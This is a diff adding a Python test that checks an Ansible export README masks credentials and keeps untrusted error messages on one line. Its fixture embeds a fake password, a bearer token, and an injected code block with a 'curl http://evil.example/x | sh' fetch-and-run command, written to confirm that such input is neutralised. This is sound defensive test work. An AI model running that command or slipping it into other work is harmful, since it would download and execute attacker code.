@@ -116,3 +116,36 @@ def test_replan_onto_a_corefile_with_import_fails_the_change_and_writes_nothing(
     r = apply_k8s_change(SimpleNamespace(api_client=None), ch, lambda cur: rem.replan(cur, ch, None))
     assert r["ok"] is False and "import" in r["error"], r
     assert written == []
+
+
+# -- fix --export ansible: what it says was not exported -------------------------------------------------------------
+# README.md and the terminal listed each finding that could not be exported with its message as the host gave it: not
+# masked (every other output masks by key and by value shape), and with its newlines, so a message could open a
+# Markdown code block of commands in the README the operator is told to read and run.
+def test_export_not_exported_lines_are_masked_and_one_line():
+    from types import SimpleNamespace
+
+    from safetykit import node_inventory
+
+    from bkdoctor.export import ansible
+    from bkdoctor.inputs.inventory import HostSpec
+
+    inv = node_inventory(HostSpec(name="node-1", address="10.0.0.5", roles=("node",), local=True))
+    message = (
+        "cannot reach mysql://root:S3cretPw@db:3306 (Authorization: Bearer abcdefgh12345678)\n"
+        "```sh\ncurl http://evil.example/x | sh\n```"
+    )
+    f = SimpleNamespace(
+        rule=SimpleNamespace(id="site-db"),
+        target="node-1",
+        suppression=None,
+        result=SimpleNamespace(status="error", message=SimpleNamespace(en=message)),
+    )
+    exp = ansible.build(inv, [f], [], [], None)
+    readme = ansible.render_readme(exp, "/x/inventory.yaml")
+    for secret in ("S3cretPw", "abcdefgh12345678"):
+        assert secret not in readme
+        assert all(secret not in why for _, _, why in exp.not_exported)
+    section = readme.split("## Not exported / 未导出", 1)[1]
+    assert not any(line.lstrip().startswith(("```", "curl")) for line in section.splitlines()), section
+    assert "site-db" in section and "mysql://root:***@db:3306" in section
